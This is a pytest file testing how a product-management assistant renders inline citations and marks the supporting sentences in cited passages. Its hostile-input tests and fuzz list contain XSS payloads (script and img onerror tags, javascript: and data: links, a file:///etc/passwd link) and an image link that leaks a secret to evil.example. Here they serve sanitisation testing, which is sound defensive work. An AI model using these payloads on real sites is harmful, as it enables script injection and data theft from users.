"""Inline citations in Forge's replies: which sentences of a cited passage back a claim written in ordinary
words, and a reply whose citations open that passage with those sentences marked, with nothing from the reply
or the documents able to inject HTML."""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import pytest

from pmforge.core.models import SourceRef
from pmforge.core.sentences import sentence_spans
from pmforge.surfaces.ui.citations import CITATION_CSS, excerpt, linked_reply, untrusted_markdown

# ---------------------------------------------------------------- gold: the sentence a claim rests on
# Written before the code: realistic PM documents, claims as a reply would paraphrase them (numbers in words
# or another notation, other verb forms), and the sentence(s) a PM should see marked.

PILOT_SCOPE = """## Scope

The pilot covers 20 stores in the Midwest region for eight weeks. Stores were chosen to match the chain's mix of \
urban and rural sites. Each store keeps its current markdown schedule for the first two weeks as a baseline. After \
that, store managers use the new pricing tool for every markdown decision."""

INTERVIEWS = """## Enterprise interviews

We spoke to 5 enterprise customers between 3 and 14 March. 3 of the 5 said onboarding a new team takes more than \
a month. Two customers built their own spreadsheets to track seat usage. Nobody asked for a mobile app. The \
procurement lead at Northwind called the current invoice "impossible to reconcile"."""

BUDGET = """## Budget

Finance approved a budget of $180k for the first year. Most of it pays for two contract engineers. Licences for \
the analytics tool cost $12,000 a year. Any spend above the approved budget needs sign-off from the CFO."""

RESULTS = """## Results so far

Shrink fell by 3% in the pilot stores over the first month. Control stores saw shrink rise by 0.4% in the same \
period. Staff spent 25% less time on markdowns. Store managers asked for the tool to cover weekend shifts."""

WHY_NOW = """## Why now

Contracts worth $1.2M in annual revenue come up for renewal in Q3. Two of those accounts have already asked for a \
discount. The sales team expects the competitor to cut prices again this autumn."""

SUPPORT = """## Support data

Support tickets rose from 400 to 800 a month after the redesign shipped. The median time to first response stayed \
under four hours. Most of the new complaints mention the navigation menu. Refund requests did not change."""

RESEARCH = """## Clinical research

Dr. Shah leads the research with two nurses from the ward. The team interviewed 12 nurses at St. Mary's Hospital \
in Jan. and Feb. 2024. Most said handover notes are written twice, once on paper and once in the EHR. Night \
shifts were the hardest to cover."""

METRICS = """## Key metrics

- Monthly churn: 4.8% (target 3%)
- Net revenue retention: 97%
- Average contract value: £24k
- Active seats: 1,930 across 112 accounts"""

DECISION = """## Decision

We decided to build the integration in-house rather than buy it. The vendor quote was three times our estimate. \
Legal also flagged the vendor's data residency terms. We will revisit buying if the build slips past September."""

GOLD = [
    pytest.param(PILOT_SCOPE, "the pilot runs in twenty stores across the Midwest",
                 ["The pilot covers 20 stores in the Midwest region for eight weeks."], id="number-word-and-paraphrase"),
    pytest.param(INTERVIEWS, "Three of the five enterprise customers told us onboarding a new team takes over a month",
                 ["3 of the 5 said onboarding a new team takes more than a month."], id="digits-vs-words"),
    pytest.param(BUDGET, "The first-year budget is capped at $180,000.",
                 ["Finance approved a budget of $180k for the first year."], id="money-180k-vs-180000"),
    pytest.param(RESULTS, "shrink dropped three percent in the pilot stores",
                 ["Shrink fell by 3% in the pilot stores over the first month."], id="percent-sign-vs-word"),
    pytest.param(WHY_NOW, "About 1.2 million dollars of yearly revenue is up for renewal this summer.",
                 ["Contracts worth $1.2M in annual revenue come up for renewal in Q3."], id="millions"),
    pytest.param(SUPPORT, "support tickets doubled after the redesign, and most complaints were about the new navigation",
                 ["Support tickets rose from 400 to 800 a month after the redesign shipped.",
                  "Most of the new complaints mention the navigation menu."], id="claim-over-two-sentences"),
    pytest.param(RESEARCH, "Dr Shah's team interviewed a dozen nurses at St Mary's",
                 ["The team interviewed 12 nurses at St. Mary's Hospital in Jan. and Feb. 2024."], id="abbreviations"),
    pytest.param(METRICS, "net revenue retention sits at 97 percent",
                 ["Net revenue retention: 97%"], id="bullet-list"),
    pytest.param(METRICS, "they have about 1930 active seats over 112 accounts",
                 ["Active seats: 1,930 across 112 accounts"], id="thousands-separator"),
    pytest.param(DECISION, "the team chose to build the integration in-house instead of buying it",
                 ["We decided to build the integration in-house rather than buy it."], id="verb-forms"),
]


def test_sentence_offsets_point_into_the_text_as_written():
    text = 'Dr. Shah said "cut it." Then e.g. 3.4% of stores.\n\n- A bullet (with a note.) And more'
    spans = sentence_spans(text)
    assert [text[s:e] for s, e in spans] == ['Dr. Shah said "cut it."', "Then e.g. 3.4% of stores.",
                                             "- A bullet (with a note.)", "And more"]


@pytest.mark.parametrize("passage, claim, marked", GOLD)
def test_the_sentences_a_claim_rests_on_are_marked(passage, claim, marked):
    found = excerpt(passage, claim)
    assert found.matched
    assert found.marked == marked


def test_a_claim_sharing_no_word_shows_the_opening_with_nothing_marked():
    found = excerpt(PILOT_SCOPE, "This is worth a follow-up conversation.")
    assert not found.matched and found.marked == []
    assert found.sentences[0].text == "The pilot covers 20 stores in the Midwest region for eight weeks."
    assert not found.cut_before and found.cut_after


def test_two_sentences_of_context_each_side_and_ellipses_where_cut():
    body = " ".join(f"Finding {word} is about topic {word}." for word in
                    ("alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel", "india"))
    found = excerpt("## Findings\n\n" + body, "what we learned on echo")
    assert [s.text for s in found.sentences] == [
        "Finding charlie is about topic charlie.", "Finding delta is about topic delta.",
        "Finding echo is about topic echo.",
        "Finding foxtrot is about topic foxtrot.", "Finding golf is about topic golf."]
    assert found.marked == ["Finding echo is about topic echo."]
    assert found.cut_before and found.cut_after

    first = excerpt("## Findings\n\n" + body, "alpha")
    assert not first.cut_before and first.cut_after  # the heading before it is not a cut
    assert len(first.sentences) == 3


def test_a_very_long_sentence_is_clipped_for_the_panel():
    passage = "Intro sentence here. " + "The vendor " + "really " * 400 + "wants a renewal."
    found = excerpt(passage, "the vendor wants a renewal")
    assert len(found.marked) == 1 and found.marked[0].endswith("…") and len(found.marked[0]) < 700


# ---------------------------------------------------------------- linked replies

def source(citation_file: str = "plan.md", section: str = "Scope", file_id: str = "f1", start: int = 0,
           end: int = 10) -> SourceRef:
    return SourceRef(citation=f"[{citation_file} › {section}]" if section else f"[{citation_file}]",
                     file_id=file_id, filename=citation_file, start=start, end=end)


class Tags(HTMLParser):
    """Every element and attribute in rendered HTML, the text a reader sees, and the text of each <mark>
    and <code> (references decoded, as the browser shows them)."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text = ""
        self.marks: list[str] = []
        self.codes: list[str] = []
        self._open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag in ("mark", "code"):
            self._open.append(tag)
            (self.marks if tag == "mark" else self.codes).append("")

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if self._open and self._open[-1] == tag:
            self._open.pop()

    def handle_data(self, data):
        self.text += data
        if self._open:
            (self.marks if self._open[-1] == "mark" else self.codes)[-1] += data

    def names(self) -> set[str]:
        return {t for t, _ in self.tags}


def rendered(markdown_text: str) -> str:
    """The reply as a CommonMark renderer with raw HTML on turns it into HTML (what unsafe_allow_html allows).
    Its own link filter is off: the links must be safe before any renderer sees them."""
    markdown_it = pytest.importorskip("markdown_it")
    renderer = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    renderer.validateLink = lambda url: True
    return renderer.render(markdown_text)


# Only these elements may reach the page: markdown's own and the citation's.
ALLOWED = {"p", "span", "label", "input", "mark", "code", "pre", "strong", "em", "a", "ul", "ol", "li",
           "blockquote", "br", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "table", "thead", "tbody", "tr", "th", "td"}
SCHEME = re.compile(r"^[\x00-\x20]*([a-z][a-z0-9+.\-]*):")


def link_scheme(href: str) -> str:
    """The scheme a browser would follow (it skips leading controls and spaces, and tabs and newlines
    anywhere); "" for a relative link."""
    found = SCHEME.match(re.sub(r"[\t\n\r]", "", href).lower())
    return found.group(1) if found else ""


def assert_inert(html: str) -> Tags:
    found = Tags(html)
    assert found.names() <= ALLOWED, found.names() - ALLOWED
    for tag, attrs in found.tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            if name in attrs:
                assert link_scheme(attrs[name]) in ("", "http", "https", "mailto"), attrs[name]
        if tag == "input":
            assert attrs.get("type") == "checkbox"
    return found


def test_a_citation_opens_its_passage_with_the_claim_marked():
    plan = source()
    reply = "The pilot runs in twenty stores across the Midwest [plan.md › Scope]. Shall we look at metrics?"
    out = linked_reply(reply, [plan], lambda s: PILOT_SCOPE)
    html = rendered(out)
    found = assert_inert(html)
    assert found.marks == ["The pilot covers 20 stores in the Midwest region for eight weeks."]
    assert "[plan.md › Scope]" not in html  # the bracket text became the clickable citation
    assert "plan.md › Scope" in html and "Shall we look at metrics?" in html
    assert "\n" not in out.split("The pilot runs", 1)[1].split("Shall we", 1)[0]  # one line: stays inline


def test_each_citation_of_the_same_source_marks_its_own_claim():
    plan = source()
    reply = ("The pilot runs in twenty stores across the Midwest [plan.md › Scope].\n\n"
             "- For the first two weeks each store keeps its current markdown schedule as a baseline "
             "[plan.md › Scope].\n- Then store managers use the new pricing tool [plan.md › Scope].")
    calls = []

    def passage_of(s):
        calls.append(s)
        return PILOT_SCOPE

    found = assert_inert(rendered(linked_reply(reply, [plan], passage_of)))
    assert found.marks == [
        "The pilot covers 20 stores in the Midwest region for eight weeks.",
        "Each store keeps its current markdown schedule for the first two weeks as a baseline.",
        "After that, store managers use the new pricing tool for every markdown decision."]
    assert len(calls) == 1  # the passage is read once per reply, however often it is cited


def test_a_citation_standing_after_its_sentence_marks_that_sentence():
    reply = "Finance approved $180,000 for year one. [budget.md › Budget]"
    found = assert_inert(rendered(linked_reply(reply, [source("budget.md", "Budget")], lambda s: BUDGET)))
    assert found.marks == ["Finance approved a budget of $180k for the first year."]


def test_two_sections_with_the_same_citation_open_the_one_that_backs_the_claim():
    first, second = source(start=0, end=10), source(start=50, end=90)
    passages = {0: RESULTS, 50: PILOT_SCOPE}
    reply = "The pilot covers twenty Midwest stores [plan.md › Scope]."
    found = assert_inert(rendered(linked_reply(reply, [first, second], lambda s: passages[s.start])))
    assert found.marks == ["The pilot covers 20 stores in the Midwest region for eight weeks."]


def test_a_citation_of_a_file_version_that_is_gone_says_so():
    reply = "The pilot covers twenty stores [plan.md › Scope]."
    html = rendered(linked_reply(reply, [source()], lambda s: None))
    found = assert_inert(html)
    assert found.marks == []
    assert "no longer available" in html and "plan.md › Scope" in html


def test_bracket_text_that_is_not_a_source_stays_as_written():
    reply = "See [other.md › Scope] and [the roadmap](https://example.com/roadmap) and [draft]."
    out = linked_reply(reply, [source()], lambda s: PILOT_SCOPE)
    html = rendered(out)
    assert "[other.md › Scope]" in html and "[draft]" in html
    assert '<a href="https://example.com/roadmap">the roadmap</a>' in html
    assert "forge-cite" not in out


def test_markdown_still_works_and_code_shows_as_written():
    reply = ("> The PM said: shrink matters most.\n\n"
             "1. **Bold** and _em_ & a [link](https://example.com)\n"
             "2. Inline `a < b && <b>c</b>` code\n\n"
             "```python\nif a < b and c & d:\n    print('<div>')\n```\n\n"
             "Stores > 20 [plan.md › Scope]")
    html = rendered(linked_reply(reply, [source()], lambda s: PILOT_SCOPE))
    found = assert_inert(html)
    assert {"blockquote", "ol", "li", "strong", "em", "a", "code", "pre", "mark"} <= found.names()
    assert found.codes == ["a < b && <b>c</b>", "if a < b and c & d:\n    print('<div>')"]
    assert "Bold</strong> and <em>em</em> &amp; a" in html
    assert "Stores > 20" in found.text


HOSTILE_REPLY = """Here is what I found <img src=x onerror="window.pwned=1"> in the files.
<script>window.pwned=2</script>
</details></span></label></p><div onclick="window.pwned=3">click</div>
[click me](javascript:alert(1)) and [again]( JaVaScRiPt:alert(2)) and [esc](javascript\\:alert(3))
[data](data:text/html;base64,PHNjcmlwdD4=) ![pixel](https://evil.example/leak?secret=1) &lt;img src=x&gt;
[ref link][r] `</code><img src=x onerror=alert(4)>`

[`code label`] [x y]

[r]: vbscript:msgbox(1)
[`code label`]: javascript:alert(7)
[x
y]: data:text/html,hi
[f](file:///etc/passwd) [ok](https://example.com/a?b=1&c=2)
- [plan.md › Scope] <iframe src="https://evil.example"></iframe>
```
</pre><img src=x onerror=alert(5)>
```
  ```
<img src=x onerror=alert(6)>"""


def test_hostile_html_and_links_in_a_reply_are_shown_as_text():
    out = linked_reply(HOSTILE_REPLY, [source()], lambda s: PILOT_SCOPE)
    html = rendered(out)
    found = assert_inert(html)
    assert "img" not in found.names() and "script" not in found.names() and "iframe" not in found.names()
    # What the model wrote is still there to read, as text.
    assert '<img src=x onerror="window.pwned=1">' in found.text
    assert "<script>window.pwned=2</script>" in found.text
    assert "&lt;img src=x&gt;" in found.text  # an entity is shown as typed, never decoded into a tag
    assert "![pixel](https://evil.example/leak?secret=1)" in found.text  # no image is fetched
    assert "</code><img src=x onerror=alert(4)>" in found.codes
    assert "</pre><img src=x onerror=alert(5)>" in found.codes


HOSTILE_PASSAGE = """## <img src=x onerror=alert(1)> Scope

The pilot covers 20 stores </mark></span></label><script>window.pwned=1</script> in the Midwest **region**. \
Call [support](javascript:alert(2)) or see <https://evil.example> & more."""


def test_hostile_passage_and_section_names_are_shown_as_text():
    bad = source("plan <b>x</b>.md", "<script>alert(1)</script> *Scope*")
    reply = f"The pilot covers twenty Midwest stores {bad.citation}."
    out = linked_reply(reply, [bad], lambda s: HOSTILE_PASSAGE)
    html = rendered(out)
    found = assert_inert(html)
    assert "script" not in found.names() and "img" not in found.names() and "b" not in found.names()
    assert found.marks == ["The pilot covers 20 stores </mark></span></label><script>window.pwned=1</script> "
                           "in the Midwest region."]
    assert "plan <b>x</b>.md › <script>alert(1)</script> *Scope*" in found.text


def test_the_style_keeps_to_the_theme():
    assert "currentColor" in CITATION_CSS and "<" not in CITATION_CSS
    assert ":checked" in CITATION_CSS and ":focus-visible" in CITATION_CSS


def test_a_citation_introducing_quotes_marks_every_quoted_sentence():
    reply = ("From your files, [support.md › Support data]: “Support tickets rose from 400 to 800 a month after the "
             "redesign shipped.” “Most of the new complaints mention the navigation menu.”\n\nWhat changed in March?")
    found = assert_inert(rendered(linked_reply(reply, [source("support.md", "Support data")], lambda s: SUPPORT)))
    assert found.marks == ["Support tickets rose from 400 to 800 a month after the redesign shipped.",
                           "Most of the new complaints mention the navigation menu."]


def test_an_offline_reply_opens_the_sentence_it_quotes_until_its_file_is_deleted(project):
    """The real path: an uploaded file, an offline turn that cites it, `Project.passage` for the text."""
    from pmforge.ingest.pipeline import delete_file, ingest_file
    from pmforge.turn.orchestrator import run_turn

    ingest_file(project, "pilot-plan.md", ("# Pilot plan\n\nA short plan for the Midwest markdown pilot.\n\n"
                                           + PILOT_SCOPE + "\n").encode())
    run_turn(project, "How many stores are in the pilot?")
    turn = project.state().turns[-1]
    citation = next(s.citation for s in turn.sources if s.citation in turn.assistant)
    quoted = re.findall(r"“(.+?)”", turn.assistant)  # the offline interviewer quotes the file's sentences
    assert "The pilot covers 20 stores in the Midwest region for eight weeks." in quoted
    found = assert_inert(rendered(linked_reply(turn.assistant, turn.sources, project.passage)))
    assert found.marks == quoted

    delete_file(project, "pilot-plan.md")
    html = rendered(linked_reply(turn.assistant, turn.sources, project.passage))
    assert assert_inert(html).marks == [] and "no longer available" in html
    assert citation.strip("[]") in Tags(html).text


PIECES = ["<", ">", "&", "`", "``", "```", "~~~", "\n", "\n\n", " ", "    ", "\\", "[", "]", "(", ")", "!", "*", "_",
          ":", "<img src=x onerror=alert(1)>", "</span>", "<details>", "&lt;", "&#60;", "[plan.md › Scope]", "- ",
          "> ", "1. ", "#", "|", '"', "$", "[r]: ", "<a href=", "<!--", "<![CDATA[", "<?", "\t", "\x01",
          "javascript:", "java\tscript:", "&#x6A;avascript:", "data:", "](", "<javascript:alert(1)>", "<http://x>",
          "www.x.com", "<svg onload=alert(1)>", "<style>", "<iframe>", "<input>", "<base href=//evil>"]


def test_replies_made_of_hostile_pieces_render_no_foreign_element_or_link():
    rng = random.Random(20240607)  # fixed: the same 1,500 replies every run
    for _ in range(1500):
        reply = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 40)))
        assert_inert(rendered(linked_reply(reply, [source()], lambda s: reply)))  # the passage is hostile too


def test_an_autolink_in_untrusted_markdown_shows_its_address_without_brackets():
    """`<https://…>` is how people paste a link in Markdown: the reader sees the address (which the app's
    renderer links, as any bare address), never a stray `&lt;`; other angle brackets still show as typed."""
    out = untrusted_markdown("See <https://example.com/returns?q=1> or mail <ops@example.com>; <b>not bold</b> "
                             "and <javascript:alert(1)> stay text.")
    found = assert_inert(rendered(out))
    assert "See https://example.com/returns?q=1 or mail ops@example.com;" in found.text
    assert "<b>not bold</b>" in found.text and "<javascript:alert(1)>" in found.text
    assert "&lt;" not in found.text and "b" not in found.names()
